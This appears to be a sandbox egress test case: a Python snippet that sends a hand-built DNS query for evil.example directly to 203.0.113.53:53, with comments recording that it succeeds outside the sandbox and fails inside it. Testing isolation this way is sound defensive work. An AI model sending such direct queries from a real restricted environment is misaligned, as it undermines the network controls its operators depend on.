# line: UDP sendto the name server's :53 directly
# control: works
# inside: EACCES
# inside netns: ENETUNREACH
# seen: udp 203.0.113.53:53; dns evil.example
import socket

question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\4evil\7example\0\0\1\0\1"
made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
made.settimeout(5)
made.sendto(question, ("203.0.113.53", 53))
made.recv(512)
